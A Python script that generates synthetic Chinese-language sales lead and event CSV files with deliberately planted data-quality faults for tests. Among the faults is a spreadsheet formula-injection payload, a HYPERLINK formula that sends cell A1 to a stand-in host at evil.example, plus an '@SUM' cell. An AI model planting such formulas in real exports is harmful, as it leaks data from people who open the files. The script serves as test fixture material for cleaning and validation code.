#!/usr/bin/env python3
"""Writes leads.csv and events.csv: nobody in them exists (e-mails end in .example, phones use block 0000).

Deterministic, standard library only:  python3 generate.py
The dirt is on purpose and planted by number, so that tests can name it: see DIRT at the end.
"""
import csv, random
from datetime import datetime, timedelta
from pathlib import Path

R = random.Random(20261121)
TODAY = datetime(2026, 11, 21, 9, 0)
HERE = Path(__file__).resolve().parent

SURNAMES = "王wang 李li 张zhang 刘liu 陈chen 杨yang 黄huang 赵zhao 吴wu 周zhou 徐xu 孙sun 马ma 朱zhu 胡hu 郭guo 何he 林lin 高gao 罗luo".split()
GIVEN = "伟wei 敏min 静jing 丽li 强qiang 磊lei 军jun 洋yang 勇yong 艳yan 杰jie 涛tao 明ming 超chao 建国jianguo 志强zhiqiang 晓东xiaodong 海燕haiyan 文博wenbo 雪梅xuemei 国栋guodong 思远siyuan".split()
ENGLISH = ["James Miller", "Priya Nair", "Kevin O'Neil", "Anna Becker", "Carlos Ruiz", "Grace Lee", "Tom Fischer", "Mei-Ling Tan"]
PLACES = {"上海": "hd", "江苏省苏州市": "hd", "江苏": "hd", "浙江省宁波市": "hd", "浙江": "hd", "安徽省合肥市": "hd", "广东省东莞市": "hn", "广东": "hn", "广东省佛山市": "hn",
          "北京": "hb", "天津": "hb", "河北": "hb", "山东省青岛市": "hd", "湖北省武汉市": "hz", "湖南": "hz", "四川省成都市": "xn", "重庆": "xn", "辽宁省沈阳市": "db", "陕西": "xb", "新加坡": "hw", "-": "", "": ""}
TRADES = {"制造业": "精密机械 jm|重工 zg|自动化设备 zdh|轴承 zc|数控机床 sk", "机械制造": "机械 jx|模具 mj|泵业 by", "汽车": "汽车零部件 qc|车桥 cq", "电子制造": "电子科技 dz|线路板 xlb",
          "化工": "新材料 xcl|涂料 tl", "食品加工": "食品 sp", "软件": "软件技术 rj", "贸易": "进出口贸易 my", "物流": "供应链 gyl", "教育": "职业技术学院 xy", "Manufacturing": "Industries ind"}
TRADE_WEIGHTS = [30, 14, 12, 12, 6, 5, 8, 6, 4, 3, 3]
BRANDS = "恒远hengyuan 华昌huachang 东升dongsheng 中科zhongke 瑞丰ruifeng 鼎盛dingsheng 金桥jinqiao 宏达hongda 永信yongxin 三江sanjiang 立诚licheng 远大yuanda 天工tiangong 新锐xinrui".split()
DECIDERS = ["采购总监", "生产总监", "IT总监", "总经理", "厂长", "副总经理", "运营副总", "董事长", "CEO", "COO", "VP Operations", "信息化负责人", "创始人"]
INFLUENCERS = ["采购经理", "信息部经理", "设备主管", "生产部长", "工艺工程师", "MES工程师", "精益经理", "质量主管", "项目经理"]
OTHERS = ["采购专员", "总经理助理", "董事长秘书", "市场专员", "Buyer", "操作员", "文员", "顾问", "Plant Engineer", "", "-"]
CHANNELS = ["百度推广", "百度", "官网", "官网注册", "微信公众号", "抖音", "工博会2026", "展会", "转介绍", "老客户介绍", "LinkedIn", "EDM", "知乎"]
CHANNEL_WEIGHTS = [16, 8, 14, 6, 12, 8, 10, 6, 6, 4, 3, 4, 3]
CAMPAIGNS = ["2026秋季数字工厂", "MES白皮书", "工博会邀约", "老客户回访", "品牌词", "智能排产研讨会", ""]
OWNERS = ["张伟", "李娜", "王强", "陈静", "赵敏", "", ""]
STAGES = ["新线索", "新线索", "跟进中", "跟进中", "已联系", "暂缓", "无效", "Select", ""]
TAGS = ["", "", "", "MES", "排产", "展会名片", "MES;排产", "老客户推荐", "预算明确", "数字化转型"]
ASSETS = ["mes-selection-guide", "smart-scheduling-whitepaper", "digital-factory-roi", "oee-handbook", "traceability-cases"]
NOTES = ["电话沟通过一次，关注交期", "需要对接ERP", "等年底预算", "已加微信，发过资料", "对方要求上门演示", "只看价格", "要求提供同行案例", "", "", "", "", ""]


def split(word):
    """恒远hengyuan → (恒远, hengyuan)"""
    n = next(i for i, c in enumerate(word) if c.isascii())
    return word[:n], word[n:]


def phone(i):
    """A number of a real operator's prefix in block 0000, one per lead, in the shape of whoever typed it."""
    pre, tail = R.choice(["138", "139", "136", "150", "151", "159", "186", "187", "189"]), f"{1000 + i * 7:04d}"
    plain = f"{pre}0000{tail}"
    return R.choices([plain, f"{pre} 0000 {tail}", f"{pre}-0000-{tail}", f"+86 {plain}", f"+86-{pre}-0000-{tail}", f"(0086){plain}"], [55, 12, 12, 12, 5, 4])[0]


def when(t, clock=True):
    """An instant in one of the forms that people and Excel leave behind."""
    forms = ["%Y-%m-%d %H:%M:%S", "%Y-%m-%d %H:%M", None, "%Y年{m}月{d}日"] if clock else ["%Y-%m-%d", None]
    form = R.choices(forms, [60, 15, 20, 5] if clock else [70, 30])[0]
    if form is None:
        return f"{t.year}/{t.month}/{t.day}" + (f" {t.hour}:{t.minute:02d}" if clock else "")
    return t.strftime(form.replace("{m}", str(t.month)).replace("{d}", str(t.day)))


def ago(lo, hi):
    """Between lo and hi days before today, in working hours mostly."""
    day = TODAY - timedelta(days=R.uniform(lo, hi))
    return day.replace(hour=R.choice([8, 9, 9, 10, 10, 11, 13, 14, 14, 15, 16, 17, 20, 22]), minute=R.randrange(60), second=R.randrange(60))


def staff(size):
    """Head counts: numbers, thousands marks, ranges."""
    if size is None:
        return R.choice(["", "-", "Select"])
    if R.random() < 0.25:
        return {30: "20-49", 80: "50-99", 300: "100-499", 700: "500-999", 1500: "1000-4999", 12000: "1万"}.get(size, str(size))
    return f"{size:,}" if size >= 1000 and R.random() < 0.6 else R.choice([str(size), f"{size}人"])


def money(amount):
    """Budgets: 万, ￥, thousands marks."""
    if amount is None:
        return R.choice(["", "", "-"])
    return R.choice([str(amount), f"{amount:,}", f"{amount // 10000}万", f"￥{amount // 10000}万", f"¥{amount:,}"])


def lead(i):
    warmth = R.choices(["hot", "keen", "mild", "cold"], [6, 18, 28, 48])[0]
    sharp = {"hot": 0.95, "keen": 0.7, "mild": 0.45, "cold": 0.25}[warmth]
    if R.random() < 0.05:
        name, mail = R.choice(ENGLISH), ""
        mail = name.lower().replace(" ", ".").replace("'", "")
    else:
        (s, sp), (g, gp) = split(R.choice(SURNAMES)), split(R.choice(GIVEN))
        name, mail = s + g, f"{gp}.{sp}"
    trade = R.choices(list(TRADES), TRADE_WEIGHTS)[0] if R.random() > sharp * 0.5 else R.choice(["制造业", "机械制造", "制造"])
    line, code = R.choice(TRADES.get(trade, TRADES["制造业"]).split("|")).split(" ")
    (brand, latin), place = split(R.choice(BRANDS)), R.choices(list(PLACES), [9, 8, 6, 7, 6, 4, 8, 6, 4, 6, 3, 3, 4, 4, 3, 4, 3, 3, 2, 1, 2, 2])[0]
    company = f"{latin.capitalize()} {line} Ltd." if line.isascii() else f"{place[:2] if len(place) > 1 else ''}{brand}{line}有限公司"
    role = R.random()
    title = R.choice(DECIDERS) if role < sharp else R.choice(INFLUENCERS) if role < sharp + 0.35 else R.choice(OTHERS)
    size = R.choices([30, 80, 300, 700, 1500, 12000, None], [3, 5, 8, 5, 6, 2, 1] if sharp > 0.5 else [10, 8, 6, 3, 2, 1, 4])[0]
    budget = R.choices([None, 30000, 80000, 150000, 300000, 500000, 1200000], [2, 1, 2, 5, 5, 5, 3] if sharp > 0.5 else [12, 4, 4, 3, 2, 1, 0])[0]
    created = ago(2, 300)
    since = min((TODAY - created).days, 170)
    paper = ago(1, max(2, since)) if R.random() < {"hot": 0.95, "keen": 0.8, "mild": 0.5, "cold": 0.12}[warmth] else None
    visits = R.choice([1, 2, 3, 5]) if R.random() < {"hot": 0.95, "keen": 0.75, "mild": 0.3, "cold": 0.06}[warmth] else 0
    visit = ago(0.2, min(25, since + 1)) if visits else None
    trial = ago(0.5, min(60, since + 1)) if R.random() < {"hot": 0.9, "keen": 0.2, "mild": 0.05, "cold": 0}[warmth] else None
    return {
        "线索编号": f"XS2026{i:05d}", "姓名": name, "手机": phone(i) if R.random() > 0.05 else R.choice(["", "-"]),
        "邮箱": f"{mail}{i if R.random() < 0.4 else ''}@{latin}-{code}.example" if R.random() > 0.12 else "", "公司名称": company, "职位": title, "所属行业": trade if R.random() > 0.06 else R.choice(["", "Select", "其他"]),
        "省份": place, "员工数": staff(size), "预算": money(budget), "线索来源": R.choices(CHANNELS, CHANNEL_WEIGHTS)[0], "市场活动": R.choice(CAMPAIGNS), "负责人": R.choice(OWNERS),
        "线索状态": R.choice(STAGES), "创建时间": when(created), "标签": R.choice(TAGS), "短信授权": R.choice(["是", "是", "否", ""]),
        "白皮书下载时间": when(paper) if paper else "", "定价页访问次数": str(visits) if visits else R.choice(["", "0"]), "最近访问时间": when(visit) if visit else "",
        "试用申请时间": when(trial) if trial else "", "备注": R.choice(NOTES), "_warmth": warmth,
    }


def plant(rows):
    """DIRT: what every real export has, each in a known place."""
    by = {r["线索编号"]: r for r in rows}
    at = lambda n: by[f"XS2026{n:05d}"]
    at(12)["备注"] = '客户说："先试用一个月"，\n之后再谈合同。\n负责人周三出差'     # quotes, commas and line breaks in one cell
    at(23).update({"姓名": "张　伟", "手机": "１３８００００９９２３", "职位": "ＣＥＯ"})              # full-width
    at(34)["员工数"] = "很多"                                                                      # unreadable number
    at(45)["创建时间"] = "上周五"                                                                   # unreadable date
    at(56).update({"姓名": "测试", "手机": "13800138000", "邮箱": "test@test.example"})               # the number people type to get past a form
    at(57).update({"姓名": "test", "手机": "13800138000", "邮箱": ""})
    at(67).update({"邮箱": "info@hengyuan-jx.example", "手机": ""})                                  # role mailbox: two people, not one
    at(68).update({"邮箱": "info@hengyuan-jx.example", "手机": ""})
    at(78)["备注"] = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看报价")'                        # formula injection
    at(79)["姓名"] = "@SUM(A1:A9)"
    at(89).update({"职位": "学生", "备注": "做毕业论文，索取资料"})
    at(90)["标签"] = "竞品;老客户推荐"
    for n in (101, 102, 103):
        at(n).update({"手机": "021-60001234", "邮箱": ""})                                          # one switchboard, three names
    at(112)["员工数"] = "5万"
    at(113)["预算"] = "￥50万"
    at(114)["预算"] = "$80,000"                                                                    # another currency is a bad value
    at(115)["邮箱"] = "liming#dongsheng-zg.example"                                                 # no @
    at(116)["创建时间"] = "46305"                                                                   # an Excel serial: 2026-10-10
    twins = []
    for n, number in enumerate((7, 19, 40, 66, 91, 130, 155, 201)):                                  # the same person once more, by another channel
        first = at(number)
        if not any(c.isdigit() for c in first["手机"]):
            first["手机"] = f"1380000{9000 + number}"
        if not first["邮箱"]:
            first["邮箱"] = f"twin{number}@dongsheng-zg.example"
        twin = dict(first, 线索编号="", 线索来源=CHANNELS[n], 创建时间=when(TODAY - timedelta(days=3 + n)), 备注="重复留资", 负责人="")
        if n % 2:
            twin["邮箱"] = first["邮箱"].upper()
            twin["手机"] = ""
        else:
            twin["手机"] = "+86 " + "".join(c for c in first["手机"] if c.isdigit())[-11:]
            twin["邮箱"] = ""
        twins.append(twin)
    return rows + twins


KINDS = {
    "page_view": ["page_view", "访问页面"], "whitepaper_download": ["whitepaper_download", "白皮书下载", "资料下载"], "email_open": ["email_open", "打开邮件"],
    "email_click": ["email_click", "点击邮件"], "webinar_attend": ["webinar_attend", "参加活动"], "trial_request": ["trial_request", "申请试用"],
    "inquiry": ["inquiry", "主动咨询"], "form_submit": ["form_submit", "提交表单"], "wecom_added": ["wecom_added", "添加企微"], "reply": ["reply", "回复"], "unsubscribe": ["unsubscribe", "退订"],
}
MIX = {  # how often each kind, by warmth
    "hot": [40, 12, 12, 10, 6, 4, 5, 4, 4, 6, 0], "keen": [46, 10, 16, 10, 4, 1, 2, 4, 2, 3, 0],
    "mild": [48, 5, 26, 9, 2, 0.3, 0.6, 3, 1, 1, 0.6], "cold": [44, 2, 40, 6, 0.8, 0, 0.1, 1.5, 0.4, 0.4, 2],
}
PATHS = ["/", "/products/mes", "/products/aps", "/blog/oee", "/blog/smart-factory", "/about", "/careers", "/cases/auto-parts", "/cases/bearing", "/pricing", "/pricing/enterprise"]
PATH_WEIGHTS = {"hot": [8, 14, 10, 6, 6, 2, 0, 14, 10, 22, 10], "keen": [10, 14, 10, 8, 8, 3, 0, 12, 8, 12, 5], "mild": [14, 14, 9, 14, 12, 4, 1, 8, 5, 3, 1], "cold": [22, 12, 8, 18, 14, 6, 6, 4, 2, 0.6, 0.1]}


def events(rows):
    reachable = [r for r in rows if "@" in r["邮箱"] or any(c.isdigit() for c in r["手机"])]
    out = []
    for r in reachable:
        w = r["_warmth"]
        for _ in range(int(R.expovariate(1 / {"hot": 22, "keen": 16, "mild": 9, "cold": 4}[w]))):
            kind = R.choices(list(KINDS), MIX[w])[0]
            t = ago(0.1, {"hot": 60, "keen": 90, "mild": 150, "cold": 200}[w])
            mail = r["邮箱"] if "@" in r["邮箱"] and (R.random() < 0.85 or not any(c.isdigit() for c in r["手机"])) else ""
            e = {"kind": R.choice(KINDS[kind]), "at": t, "email": mail.upper() if R.random() < 0.03 else mail, "phone": "" if mail else r["手机"], "path": "", "asset": "", "campaign": "", "content": ""}
            if kind == "page_view":
                e["path"] = R.choices(PATHS, PATH_WEIGHTS[w])[0]
                e["campaign"] = R.choice(["", "", "", "品牌词", "2026秋季数字工厂"])
            elif kind in ("whitepaper_download", "webinar_attend"):
                e["asset"] = R.choice(ASSETS) if kind == "whitepaper_download" else R.choice(["oct-aps-webinar", "ciif-2026", "nov-mes-open-day"])
            elif kind.startswith("email"):
                e["content"], e["campaign"] = R.choice(["guide-a", "case-mfg", "offer-a", "offer-b"]), "MES白皮书"
            elif kind == "form_submit":
                e["path"] = "/contact"
            out.append(e)
    for n in range(30):                                                             # visitors who are not leads (yet): their events wait
        out.append({"kind": "page_view", "at": ago(1, 90), "email": f"visitor{n}@unknown.example", "phone": "", "path": R.choice(PATHS), "asset": "", "campaign": "", "content": ""})
    scanned = next(r for r in reachable if r["_warmth"] == "cold" and "@" in r["邮箱"])
    t = ago(5, 10)
    for n in range(6):                                                              # a mail scanner opens every link at once
        out.append({"kind": "email_click", "at": t + timedelta(seconds=n // 4), "email": scanned["邮箱"], "phone": "", "path": f"/l/{n}", "asset": "", "campaign": "MES白皮书", "content": "guide-a"})
    out.sort(key=lambda e: e["at"])
    out.insert(700, dict(out[699]))                                                 # a true repeat: twice in one second
    for e in out:
        e["at"] = e["at"].strftime("%Y-%m-%d %H:%M:%S") if R.random() < 0.92 else f"{e['at'].year}/{e['at'].month}/{e['at'].day} {e['at'].hour}:{e['at'].minute:02d}"
    out[1200] = dict(out[1200], at="昨天下午")                                         # unreadable instant: refused with its reason
    return out


def write(name, rows):
    columns = [c for c in rows[0] if not c.startswith("_")]
    with open(HERE / name, "w", encoding="utf-8", newline="") as f:
        w = csv.DictWriter(f, columns, extrasaction="ignore", lineterminator="\n")
        w.writeheader()
        w.writerows(rows)


if __name__ == "__main__":
    people = plant([lead(i) for i in range(1, 353)])
    write("leads.csv", people)
    write("events.csv", events(people))
